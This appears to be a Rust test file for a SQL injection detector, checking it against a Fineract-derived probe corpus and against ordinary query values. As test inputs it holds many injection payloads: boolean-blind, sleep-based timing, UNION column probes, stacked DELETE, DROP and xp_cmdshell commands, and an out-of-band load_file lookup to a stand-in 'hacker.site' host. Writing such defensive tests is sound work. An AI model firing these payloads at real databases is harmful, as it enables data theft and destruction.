//! `detect_sql_injection` against Fineract's own probe corpus and ordinary query values.

use kassa_wire::detect_sql_injection;

const CORPUS: &str = include_str!("../data/sqli-fineract.tsv");

fn corpus() -> Vec<(&'static str, &'static str)> {
    CORPUS
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(|l| l.split_once('\t').expect("verdict<TAB>payload"))
        .collect()
}

#[test]
fn every_corpus_line_gets_fineracts_verdict() {
    let lines = corpus();
    assert!(
        lines.len() > 70,
        "the corpus looks truncated: {} lines",
        lines.len()
    );
    let wrong: Vec<String> = lines
        .iter()
        .filter_map(|(verdict, payload)| {
            let detected = detect_sql_injection(payload);
            let ok = match *verdict {
                "reject" => detected.is_some(),
                "accept" => detected.is_none(),
                other => panic!("unknown verdict `{other}`"),
            };
            (!ok).then(|| format!("{verdict} `{payload}` but got {detected:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn the_corpus_keeps_its_licence_header() {
    assert!(CORPUS
        .lines()
        .take(5)
        .any(|l| l.starts_with('#') && l.contains("Apache License 2.0")));
}

/// Rejected probes survive whitespace stretched anywhere it already is, as Fineract's
/// "fuzzy degree" scenarios do.
#[test]
fn rejections_survive_stretched_whitespace() {
    let runs = [" ", "  ", "\t", " \n ", "   \t"];
    for (n, (verdict, payload)) in corpus().into_iter().enumerate() {
        if verdict != "reject" {
            continue;
        }
        let stretched: String = payload
            .split(' ')
            .enumerate()
            .map(|(k, part)| {
                if k == 0 {
                    part.to_string()
                } else {
                    format!("{}{part}", runs[(n + k) % runs.len()])
                }
            })
            .collect();
        assert!(detect_sql_injection(&stretched).is_some(), "`{stretched}`");
    }
}

/// The pattern names Fineract's feature file gives these probes. One deliberate difference:
/// `["quote_literal(42.5)=quote_literal(42.5)" ,"POSTGRESQL"]` is `inject-timing` there only
/// because of a broken character class; we call it `detect-backend` like its siblings.
#[test]
fn probes_are_named_as_fineract_names_them() {
    let expected = [
        ("or 'a' = 'a'", "inject-blind"),
        ("' or 'a' = 'a'", "inject-blind"),
        ("or 'a' = 'a' --", "inject-blind"),
        ("abc' Or 'a' = 'a' /*", "inject-blind"),
        ("OR 1 = 1", "inject-blind"),
        ("or 1 = 1 -----", "inject-blind"),
        ("')", "detect-entry-point"),
        ("`) ))))   )))))    ))) ))", "detect-entry-point"),
        ("\"))", "detect-entry-point"),
        ("1' + sleep(10)", "inject-timing"),
        ("1' || pg_sleep(10)", "inject-timing"),
        (
            "abc' && benchmark(    400000       , sha1(1)       )",
            "inject-timing",
        ),
        ("1' and if(1=1, sleep(15), false)", "inject-timing"),
        (
            "1 and (select sleep(10) from users where SUBSTR(table_name,1,1) = 'A') #",
            "inject-timing",
        ),
        (
            "[\"conv('a',16,2)=conv('a',16,2)\" ,\"MYSQL\"]",
            "detect-backend",
        ),
        (
            "[\"connection_id()=connection_id()\" ,\"MYSQL\"]",
            "detect-backend",
        ),
        (
            "[\"current_database()=current_database()\" ,\"POSTGRESQL\"]",
            "detect-backend",
        ),
        (
            "[\"quote_literal(42.5)=quote_literal(42.5)\" ,\"POSTGRESQL\"]",
            "detect-backend",
        ),
        ("1' ORDER by 1", "detect-column"),
        ("abc' group by 1, 2 --", "detect-column"),
        ("1' UNION SELECT null, null, null", "detect-column"),
        (
            "select load_file(concat('\\\\\\\\',version(),'.hacker.site\\\\a.txt'));",
            "detect-out-of-bands",
        ),
        ("1; DELETE FROM products", "inject-stacked-query"),
        (
            "1; exec master..xp_cmdshell 'DEL important_file.txt'",
            "inject-stacked-query",
        ),
        ("123 --", "inject-comment"),
        ("' /*", "inject-comment"),
        ("abc' #", "inject-comment"),
        ("2 ({", "inject-comment"),
    ];
    for (payload, name) in expected {
        assert_eq!(detect_sql_injection(payload), Some(name), "`{payload}`");
    }
}

#[test]
fn ordinary_column_names_and_values_pass() {
    for value in [
        "displayName",
        "id",
        "accountNo",
        "c.id",
        "ASC",
        "desc",
        "DESC",
        "hierarchy",
        "external-id-123",
        "O'Brien",
        "Anne-Marie",
        "john.doe@example.com",
        "m.name asc",
        "submittedon_date",
        "Tom and Jerry",
        "Smith & Sons",
        "R&D",
        "C#",
        "100%",
        "a=b",
        "x = y",
        "2024-03-05",
        "loan/2024/03",
        "O'Brien and O'Neil",
        "semi;colon",
        "sleepy",
        "order",
        "orderBy",
        "selection",
        "update_date",
        "version",
        "@handle",
        "ext_ref:42",
        "Wait for delay",
        "Copy to program director",
        "",
        "   ",
    ] {
        assert_eq!(detect_sql_injection(value), None, "`{value}`");
    }
}

#[test]
fn common_attacks_outside_the_corpus_are_detected() {
    for (payload, name) in [
        ("1 or 2>1", "inject-blind"),
        ("x' or a=b", "inject-blind"),
        ("1' OR ''='", "inject-blind"),
        ("1'or'1'='1", "inject-blind"),
        ("') or ('a'='a", "inject-blind"),
        (") or 1=1", "inject-blind"),
        (")", "detect-entry-point"),
        (
            "') union select password from m_appuser",
            "detect-entry-point",
        ),
        ("1; waitfor delay '0:0:5'", "inject-timing"),
        ("SLEEP (5)", "inject-timing"),
        ("1 union all select 1", "detect-column"),
        ("1 UNION (SELECT 1)", "detect-column"),
        ("id ORDER  BY 3", "detect-column"),
        ("1;drop table m_client", "inject-stacked-query"),
        ("id; select 1", "inject-stacked-query"),
        ("1 into outfile '/tmp/x'", "detect-out-of-bands"),
        ("copy t to program 'id'", "detect-out-of-bands"),
        ("utl_http.request('http://x')", "detect-out-of-bands"),
        ("@@version", "detect-backend"),
        ("select version()", "detect-backend"),
        ("information_schema.tables", "detect-backend"),
        ("pg_catalog.pg_user", "detect-backend"),
        ("sqlite_master", "detect-backend"),
        ("admin'--", "inject-comment"),
        ("1--", "inject-comment"),
        ("name/*x*/", "inject-comment"),
        ("issue #42", "inject-comment"),
    ] {
        assert_eq!(detect_sql_injection(payload), Some(name), "`{payload}`");
    }
}

#[test]
fn detection_ignores_case() {
    assert_eq!(
        detect_sql_injection("1 UnIoN SeLeCt 1"),
        Some("detect-column")
    );
    assert_eq!(
        detect_sql_injection("1' AnD SlEeP(1)"),
        Some("inject-timing")
    );
}

#[test]
fn long_hostile_values_are_scanned_without_blowing_up() {
    let parens = "||(".repeat(20_000) + "sleep(1)";
    assert_eq!(detect_sql_injection(&parens), Some("inject-timing"));
    let closers = ")".repeat(50_000) + "=" + &")".repeat(50_000);
    assert!(detect_sql_injection(&closers).is_some());
    let words = "or a ".repeat(20_000);
    assert_eq!(detect_sql_injection(&words), None);
}
